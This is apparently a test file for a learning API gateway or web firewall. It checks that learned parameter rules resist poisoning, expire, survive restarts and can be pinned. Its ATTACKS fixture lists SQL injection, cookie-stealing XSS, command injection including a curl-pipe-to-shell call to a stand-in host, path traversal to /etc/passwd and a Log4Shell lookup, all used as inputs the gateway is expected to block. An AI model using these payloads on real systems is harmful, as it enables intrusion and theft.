import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import type { Verdict } from '../../src/core/verdict.ts';
import { endpointKey, LearnedTable } from '../../src/detect/parameters/learned-table.ts';
import { call, echoUpstream, TestGateway } from '../harness/gateway.ts';
import { HOUR_MS, ParameterSchool, values } from '../harness/parameter-school.ts';

const NUMBERS = Array.from({ length: 61 }, (_, i) => i * 37);
const WORDS = ['a plain note', 'call me back, please', 'see page 4', 'thanks', 'my order has not arrived'];
const MARKUP = Array.from(
  { length: 40 },
  (_, i) => `<p>See <a href='https://shop.example/item${i}' title='item ${i}'>item ${i}</a> for <b>${i * 3}</b></p>`,
);
/** Texts that come near an attack and are none the default profile refuses; the model says which of them are, as it is now. */
const NEAR = [
  '1 or 2',
  '1 union',
  '7; ls',
  'id=1; select',
  "x' and y",
  'a; echo b',
  '12 or more, and 3',
  'SELECT * FROM t',
  'update t set a=1 where b=2',
  'SELECT count(*) FROM orders; -- report',
  'group by 1 order by 2',
  "<object data='/a' title='b'>c</object>",
  "<embed src='/a' title='b'>",
  'if (a > 3) { b(); }',
  'document.title',
].filter((text) => {
  const found = scoreOf(text);
  return found !== undefined && found.margin < 0;
});
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: ["1' UNION SELECT password FROM users--", "x'; DROP TABLE orders--", "' OR '1'='1"],
  xss: ['<img src=x onerror=alert(document.cookie)>', '<a href="javascript:alert(1)">x</a>'],
  cmd: ['x; $(cat /etc/passwd)', '`curl evil.example|sh`'],
  traversal: ['../../../../etc/passwd'],
  log4shell: ['#{jndi:ldap://evil.example/a}'.replace('#', '$')],
};

function scoreOf(text: string): { readonly margin: number } | undefined {
  const found = values.scoreValue({ location: 'json', isKey: false, path: 'body.note', text, decoded: [] });
  if (found === undefined) return undefined;
  return { margin: Math.max(...found.classes.map((one) => one.score - values.thresholdOf('default', one.class))) };
}

const isRefused = (verdict: Verdict): boolean => verdict.kind === 'deny';
const isUntold = (verdict: Verdict): boolean => verdict.kind === 'pass' && verdict.signals === undefined;

describe('what parameters hold', () => {
  let school: ParameterSchool;
  const near = NEAR[0] ?? '';
  beforeEach(() => {
    school = new ParameterSchool();
  });
  afterEach(() => school.close());
  const heldTo = async () => (await school.note())?.heldTo;

  test('the texts of this file are near an attack and refused by nothing but what was learned', () => {
    assert.ok(NEAR.length >= 2, `${NEAR.length} texts are near`);
    for (const text of NEAR) {
      const verdict = school.send({ note: text, consumer: 'alice' });
      assert.equal(verdict.kind, 'pass', text);
      assert.ok(!isUntold(verdict), text);
    }
    for (const text of [...WORDS, ...MARKUP]) assert.ok(isUntold(school.send({ note: text, consumer: 'alice' })), text);
  });

  // ---- attacks on learning

  test('one consumer alone teaches nothing, however often, however long, from however many addresses', async () => {
    const addresses = Array.from({ length: 12 }, (_, i) => `198.51.100.${i}`);
    await school.teach({ notes: NUMBERS, consumers: ['mallory'], addresses, hours: 6 });
    assert.equal(await heldTo(), undefined);
    assert.ok(!isRefused(school.send({ note: near, consumer: 'bob' })));
  });

  test('one address alone teaches nothing, nor do nine', async () => {
    await school.teach({ notes: NUMBERS, consumers: [''], hours: 6, perHour: 60 });
    assert.equal(await heldTo(), undefined);
    const nine = Array.from({ length: 9 }, (_, i) => `203.0.113.${i}`);
    await school.teach({ notes: NUMBERS, consumers: [''], addresses: nine.slice(1), hours: 4 });
    assert.equal(await heldTo(), undefined);
    await school.teach({ notes: NUMBERS, consumers: [''], addresses: nine, hours: 1 });
    assert.equal(await heldTo(), 'integer');
  });

  test('a burst within one hour teaches nothing, and one loud caller counts no more than a quiet one', async () => {
    await school.teach({ notes: NUMBERS, consumers: ['a', 'b', 'c', 'd', 'e', 'f'], hours: 1, perHour: 40 });
    const note = await school.note();
    assert.equal(note?.heldTo, undefined);
    assert.equal(note?.values, 120);
    await school.teach({ notes: NUMBERS, consumers: ['a', 'b'], hours: 1 });
    assert.equal(await heldTo(), undefined);
  });

  test('what was refused, told of, denied elsewhere or turned down by the upstream teaches nothing', async () => {
    await school.teach({ notes: NEAR });
    await school.teach({ notes: ATTACKS['sqli'] ?? [] });
    await school.teach({ notes: NUMBERS, isPermitted: false });
    await school.teach({ notes: NUMBERS, status: 400 });
    assert.equal(await school.note(), undefined);
  });

  test('a parameter cannot be narrowed against those who use it otherwise', async () => {
    await school.teach({ notes: WORDS, consumers: ['alice', 'bob'], hours: 1, perHour: 1 });
    await school.teach({ notes: NUMBERS, consumers: ['m1', 'm2', 'm3', 'm4'], hours: 8 });
    assert.equal(await heldTo(), undefined);
    assert.ok(!isRefused(school.send({ note: near, consumer: 'alice' })));
  });

  test('evidence one consumer sends is forgiven nobody, whatever share of all values it has', async () => {
    await school.teach({ notes: WORDS, consumers: ['alice', 'bob'], hours: 3, perHour: 1 });
    await school.teach({ notes: MARKUP, consumers: ['mallory'], hours: 8 });
    const note = await school.note();
    assert.equal(note?.consumers, 3);
    const ofOne = (note?.evidence ?? []).filter(({ consumers }) => consumers === 1);
    assert.ok(ofOne.some(({ share }) => share > 0.8));
    assert.ok(ofOne.every(({ forgiven }) => !forgiven));
  });

  test('no attack passes where markup is usual, nor where its class is forgiven by word of an operator', async () => {
    await school.teach({ notes: MARKUP, hours: 4 });
    assert.ok(((await school.note())?.evidence ?? []).some(({ forgiven }) => forgiven));
    const all = Object.values(ATTACKS).flat();
    for (const attack of all) assert.ok(isRefused(school.send({ note: attack, consumer: 'bob' })), attack);
    await school.learning.pin({
      routeId: 'notes',
      method: 'POST',
      template: '/notes/{id}',
      path: 'body.note',
      type: undefined,
      forgive: ['sqli', 'xss', 'cmd', 'traversal', 'log4shell', 'prototype', 'template', 'code', 'ldap', 'nosqli'],
      expiresMs: school.nowMs + HOUR_MS,
    });
    for (const attack of all) assert.ok(isRefused(school.send({ note: attack, consumer: 'bob' })), attack);
  });

  test('a flood of made-up names stays within its bound and does not push out what is used', async () => {
    await school.teach({ notes: NUMBERS });
    assert.equal(await heldTo(), 'integer');
    for (let i = 0; i < 300; i++)
      school.send({
        note: { [`made${String.fromCharCode(97 + (i % 26))}up${'x'.repeat(i % 19)}`]: 'x' },
        consumer: 'm',
      });
    await school.learning.settle();
    assert.ok((await school.learning.list({ limit: 1000 })).length <= 200);
    assert.equal(await heldTo(), 'integer');
  });

  test('of values nothing is kept that they could be read from', async () => {
    const secrets = ['correct horse battery', 'hunter2 and more', 'tell nobody of this'];
    await school.teach({ notes: secrets });
    const rows = await school.store.parameters.list({ limit: 1000 });
    assert.ok(rows.length > 0);
    const text = JSON.stringify([rows, await school.learning.list({ limit: 10 })]);
    for (const secret of [...secrets, 'horse', 'hunter2', 'alice', '192.0.2.1'])
      assert.ok(!text.includes(secret), secret);
  });

  // ---- what it is good for

  test('a value that comes near is refused where three consumers have sent numbers for three hours', async () => {
    await school.teach({ notes: NUMBERS });
    assert.equal(await heldTo(), 'integer');
    for (const text of NEAR) {
      const verdict = school.send({ note: text, consumer: 'dave' });
      assert.ok(isRefused(verdict), text);
      assert.match(verdict.kind === 'deny' ? String(verdict.detail) : '', /parameter\.not-integer \+\d/);
    }
  });

  test('being of another type alone refuses nothing', async () => {
    await school.teach({ notes: NUMBERS });
    for (const text of [...WORDS, 'Müller', "O'Brien", 'x'.repeat(300)])
      assert.ok(!isRefused(school.send({ note: text, consumer: 'dave' })), text);
  });

  test('a parameter of a few values is held to them', async () => {
    await school.teach({ notes: ['brand new', 'quite done', 'long gone'] });
    assert.equal(await heldTo(), 'choice');
    assert.ok(isRefused(school.send({ note: near, consumer: 'dave' })));
  });

  test('what is usual is forgiven, and only that', async () => {
    const fresh = [
      "<img src='/a.png' alt='x'>",
      "<a href='/a' title='b'>",
      "<a href='a'title='b'>c</a>",
      "' title='item 1'>item 1</a>",
      "'>item 1</a> for <b>3</b></p>",
      "x' title='item 1'>item</a>",
      "<object href='/item1' title='item 1'>item 1</object>",
      "<embed href='/item1' title='1'>",
      "<p>See <object data='https://shop.example/item1' title='item 1'>item 1</object> for <b>3</b></p>",
      "<p>See <embed src='https://shop.example/item1' title='item 1'>",
    ].filter((text) => scoreOf(text) !== undefined);
    assert.ok(fresh.length > 0, 'one of them comes near');
    await school.teach({ notes: MARKUP, hours: 4 });
    const forgiven = fresh.filter((text) => isUntold(school.send({ note: text, consumer: 'bob' })));
    assert.ok(forgiven.length > 0, 'one of them comes near no more');
    const other = NEAR.filter((text) => !text.includes('<'));
    assert.ok(other.some((text) => !isUntold(school.send({ note: text, consumer: 'bob' }))));
  });

  test('what is not seen for thirty days is forgotten; what was pinned, at its end', async () => {
    await school.teach({ notes: NUMBERS });
    const pinned = await school.learning.pin({
      routeId: 'notes',
      method: 'POST',
      template: '/notes/{id}',
      path: 'body.other',
      type: 'uuid',
      forgive: [],
      expiresMs: school.nowMs + 40 * 24 * HOUR_MS,
    });
    school.nowMs += 29 * 24 * HOUR_MS;
    await school.learning.forgetOld();
    assert.equal(await heldTo(), 'integer');
    school.nowMs += 2 * 24 * HOUR_MS;
    await school.learning.forgetOld();
    assert.equal(await school.note(), undefined);
    assert.ok(!isRefused(school.send({ note: near, consumer: 'dave' })));
    assert.equal((await school.learning.find(pinned.id))?.heldTo, 'uuid');
    school.nowMs += 10 * 24 * HOUR_MS;
    await school.learning.forgetOld();
    assert.equal(await school.learning.find(pinned.id), undefined);
  });

  test('what was learned counts again after a restart', async () => {
    await school.teach({ notes: NUMBERS });
    const table = new LearnedTable(school.hash, await school.restarted().table());
    const endpoint = endpointKey('notes', 'POST', '/notes/{id}');
    assert.equal(table.find(endpoint, 'body.note')?.isUnusual(near), true);
    assert.equal(table.find(endpoint, 'body.note')?.isUnusual('37'), false);
    assert.equal(table.find(endpoint, 'body.other'), undefined);
    assert.equal(table.find(endpointKey('notes', 'PUT', '/notes/{id}'), 'body.note'), undefined);
  });

  test('a parameter that is forgotten by hand is held to nothing at once', async () => {
    await school.teach({ notes: NUMBERS });
    const { id = '' } = (await school.note()) ?? {};
    assert.ok(await school.learning.forget(id));
    assert.ok(!isRefused(school.send({ note: near, consumer: 'dave' })));
    assert.ok(!(await school.learning.forget(id)));
  });
});

describe('a gateway that learns', () => {
  let upstream: Awaited<ReturnType<typeof echoUpstream>>;
  let gateway: TestGateway;
  const post = (note: unknown) =>
    call(`${gateway.url}/notes/7`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ note }),
    });
  const config = () => `mode: enforce
upstreams: { api: { url: "${upstream.url}" } }
routes:
  - id: notes
    match: { path: "/notes/{id}" }
    upstream: api
    authenticate: none
    inspect: { payload: default }
  - id: fixed
    match: { path: "/fixed/{id}" }
    upstream: api
    authenticate: none
    inspect: { payload: { learn: false } }
`;
  before(async () => {
    upstream = await echoUpstream();
    gateway = await TestGateway.start({ config: config(), workers: 2 });
  });
  after(async () => {
    await gateway.stop();
    await upstream.close();
  });

  test('shows what it has seen, and holds every thread to what an operator says', async () => {
    for (let i = 0; i < 32; i++) assert.equal((await post(i)).status, 200);
    await gateway.recorded(32);
    const { body } = await gateway.admin('GET', '/api/v1/parameters?route=notes');
    const items = body['items'] as { path: string; id: string; type: string; values: number; heldTo?: string }[];
    const note = items.find(({ path }) => path === 'body.note');
    assert.equal(note?.type, 'integer');
    assert.equal(note?.heldTo, undefined);
    assert.ok(note.values >= 2 && note.values <= 4, `${note.values} values`);
    const near = NEAR[0] ?? '';
    assert.equal((await post(near)).status, 200);
    const place = ['--route', 'notes', '--method', 'POST', '--path', 'body.note'];
    const pinned = await gateway.cli(['parameters', 'pin', ...place, '--type', 'integer', '--for', '30d']);
    assert.equal(pinned.code, 0, pinned.stderr);
    for (let i = 0; i < 6; i++) assert.equal((await post(near)).status, 403);
    assert.equal((await post('a plain note')).status, 200);
    const explained = await gateway.admin('POST', '/api/v1/explain', {
      request: `POST /notes/7 HTTP/1.1\nContent-Type: application/json\n\n${JSON.stringify({ note: near })}`,
    });
    assert.match(JSON.stringify(explained.body), /parameter\.not-integer/);
    assert.match((await gateway.cli(['parameters', 'list'])).stdout, /body\.note\s.*pinned/);
    assert.match((await gateway.cli(['parameters', 'show', note.id])).stdout, /pinned until/);
    assert.equal((await gateway.cli(['parameters', 'unpin', note.id])).code, 0);
    assert.equal((await post(near)).status, 200);
    assert.equal((await gateway.cli(['parameters', 'forget', note.id])).code, 0);
    assert.equal((await gateway.cli(['parameters', 'show', note.id])).code, 1);
  });

  test('refuses to pin what it does not know', async () => {
    const pin = (change: object) =>
      gateway.admin('POST', '/api/v1/parameters', {
        route: 'notes',
        method: 'POST',
        path: 'body.note',
        type: 'integer',
        ...change,
      });
    assert.equal((await pin({ route: 'none' })).status, 422);
    assert.equal((await pin({ route: 'fixed' })).status, 422);
    assert.equal((await pin({ path: 'note' })).status, 422);
    assert.equal((await pin({ path: 'header.referer' })).status, 422);
    assert.equal((await pin({ path: 'body.*' })).status, 422);
    assert.equal((await pin({ type: 'number' })).status, 400);
    assert.equal((await pin({ days: 366 })).status, 400);
    assert.equal((await pin({ method: 'TRACE' })).status, 400);
  });
});
